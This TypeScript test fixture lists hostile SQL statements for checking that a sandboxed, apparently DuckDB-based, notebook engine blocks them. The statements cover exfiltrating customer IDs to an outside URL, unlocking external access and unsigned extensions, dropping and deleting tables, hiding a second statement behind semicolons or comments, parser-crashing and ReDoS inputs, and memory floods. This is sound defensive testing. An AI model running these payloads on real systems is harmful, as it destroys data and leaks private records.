/** Statements that a shared notebook or a script could hold. None may reach a server, change anything, or take the engine away. */

/** Try to send data to another origin, to our own, or to where extensions come from. */
export function leaks(url: string): string[] {
  const host = url.replace(/\/$/, '');
  return [
    `select * from read_csv('${host}/x?s=' || (select string_agg(customer_id, ',') from customer))`,
    `from read_csv('${host}/x?s=1')`,
    `from '${host}/t.csv'`,
    `from read_text('${host}/t')`,
    `from read_blob('${host}/t')`,
    `from sniff_csv('${host}/t')`,
    `from glob('${host}/*')`,
    `from glob('http://rapport.invalid/*')`,
    `from read_csv('s3://bucket/t.csv')`,
    `from read_csv('hf://datasets/x/t.csv')`,
    `from read_parquet('${host}/t.parquet')`,
    `from read_json('${host}/t.json')`,
    `from parquet_scan('https://rapport.invalid/t.parquet')`,
    `from query('from read_text(''${host}/t'')')`,
    `from query_table('${host}/t.csv')`,
    `copy customer to '${host}/up.csv'`,
    `copy (select 1) to '/up.csv'`,
    `attach '${host}/e.db'`,
    `attach 'https://rapport.invalid/e.db' as e (read_only)`,
    `export database 'x'`,
    `export database '${host}/x'`,
    `import database '${host}/x'`,
    'install httpfs',
    'load httpfs',
    'install httpfs; load httpfs',
    'install h3 from community',
    `install x from '${host}'`,
    `load '${host}/x.wasm'`,
    `create secret (type s3, key_id 'a', secret 'b')`,
    `from read_csv('/leak?s=1')`,
    `from read_csv('leak.csv?s=1')`,
    `from read_text('uploads/../leak')`,
    `from read_text('uploads/%2e%2e/leak')`,
    `from read_blob('opfs://x')`,
    `from read_text('blob:${host}/x')`,
    'select now()',
    'select current_date',
    `select timestamptz '2024-01-01 00:00:00+00' + interval 1 day`,
    `select timestamp '2024-01-01' at time zone 'Europe/Berlin'`,
    `select to_json(1)`,
    `select '{}'::json -> 'a'`,
    `select * from pragma_user_agent() where read_text('${host}') is null`,
    `from enable_logging(storage := 'file', storage_path := '${host}/log')`,
    `from "enable_logging" /* */ (storage := 'file', storage_path := '${host}/log')`,
    `from query('from enable_' || 'logging(storage := ''file'', storage_path := ''${host}/log'')')`,
    `select write_log('x') from system.main.enable_logging(storage := 'file', storage_path := '${host}/log')`,
    `call enable_logging(storage := 'file', storage_config := {'path': '${host}/log'})`
  ];
}

/** Try to undo what was locked. */
export const unlocks = (url: string): string[] => [
  'set enable_external_access = true',
  'reset enable_external_access',
  'pragma enable_external_access = 1',
  `set allowed_directories = ['http://', '/', '']`,
  `set allowed_paths = ['${url}']`,
  `set custom_extension_repository = '${url}'`,
  'set autoload_known_extensions = true',
  'set allow_unsigned_extensions = true',
  'set lock_configuration = false',
  'reset lock_configuration',
  `set memory_limit = '100GB'`,
  `set temp_directory = '/tmp'`,
  'set threads = 8',
  'set global search_path = temp',
  `select set_config('threads', '1')`,
  `pragma enable_profiling`,
  `pragma disable_optimizer`
];

/** Try to change data or what its names mean. */
export const changes: readonly string[] = [
  'drop table customer',
  'drop view customer',
  'drop view if exists purchase cascade',
  'drop schema store cascade',
  'drop schema main cascade',
  'delete from customer',
  'truncate store.purchase',
  'update store.purchase set amount = 0',
  `insert into store.purchase select * from store.purchase`,
  'create or replace table customer as select 1',
  'create or replace view purchase as select 1',
  'create temp table purchase as select 1 as amount',
  'create temp view purchase as select 1 as amount',
  'create or replace macro sum(x) as 0',
  'create or replace temp macro sum(x) as 0',
  `create type mood as enum ('sad')`,
  'create sequence s',
  'create schema evil',
  'alter table store.purchase add column z int',
  `comment on table store.purchase is 'x'`,
  'commit; drop view customer',
  'select 1; drop view customer',
  'select 1;;;drop view customer;',
  "select 'a;b' /* ; */ -- ;\n; drop view customer",
  'select $$ ; $$; drop view customer',
  'select $t$ ; $t$ ; drop view customer',
  "select e'\\'' ; drop view customer --'",
  'select /* /* */ ; */ 1; drop view customer',
  'pivot purchase on kind using sum(amount); drop view customer',
  'with gone as (delete from store.purchase returning *) select * from gone',
  'with x as (select 1) delete from store.purchase',
  'explain analyze delete from store.purchase',
  `explain analyze copy purchase to 'uploads/x.csv'`,
  `copy purchase to 'uploads/x.csv'`,
  `copy store.purchase from 'uploads/x.csv'`,
  `export database 'uploads/x'`,
  `attach ':memory:' as store`,
  'detach memory',
  'use temp',
  'set variable a = 1',
  'begin; drop view customer; commit',
  'rollback',
  'prepare p as drop view customer',
  'execute p',
  'call force_checkpoint()',
  'from force_checkpoint()',
  'checkpoint',
  'from checkpoint()',
  'from enable_logging()',
  'vacuum',
  `from query('drop view customer')`,
  `from query('select 1; drop view customer')`
];

/** Try to break the parser or the stack. */
export const breaks = (): string[] => [
  Array(3000).fill('select 1').join(' union all '),
  `select ${'('.repeat(100_000)}1${')'.repeat(100_000)}`,
  `select ${'['.repeat(5000)}1${']'.repeat(5000)}`,
  `select ${'not '.repeat(50_000)}true`,
  `select ${'(select '.repeat(900)}1${')'.repeat(900)}`,
  `select ${Array(200_000).fill('1').join('+')}`,
  `select '${'x'.repeat(1_000_000)}' as x`,
  `select ${'case when true then '.repeat(5000)}1${' end'.repeat(5000)}`,
  `select "${'x'.repeat(100_000)}"`,
  `/*${'/*'.repeat(100_000)}`,
  "select '",
  'select $a$',
  'select "',
  '\0',
  'select 1 as "\0"',
  ';'.repeat(10_000),
  '',
  `select regexp_matches(repeat('a', 100000) || '!', '^(a+)+$')`,
  'select * from arrow_scan(1, 2, 3)',
  `select '<img src=x onerror=alert(1)>' as "<svg onload=alert(2)>"`,
  `select 1 as "__proto__", 2 as "constructor", 3 as "toString"`
];

/** Never end, or want all memory there is. Each runs until its deadline, is refused, or ends the worker. */
export const floods: readonly string[] = [
  'with recursive t(n) as (select 1 union all select n + 1 from t) select count(*) from t',
  'select count(*) from range(100000000) a, range(100000) b',
  `select levenshtein(repeat('a', 20000), repeat('b', 20000))`,
  `select repeat('x', 1000000000)`,
  `create table b as select i, repeat(i::varchar, 20) from range(60000000) t(i)`,
  `select i, repeat('x', 100) from range(30000000) t(i)`,
  'select list(i) from range(400000000) t(i)'
];

/** All but what takes longest: for a test in a browser, with the address of a server that must not be asked. */
export function hostile(url: string): string[] {
  return [...leaks(url), ...unlocks(url), ...changes, ...breaks(), ...floods.slice(1)];
}
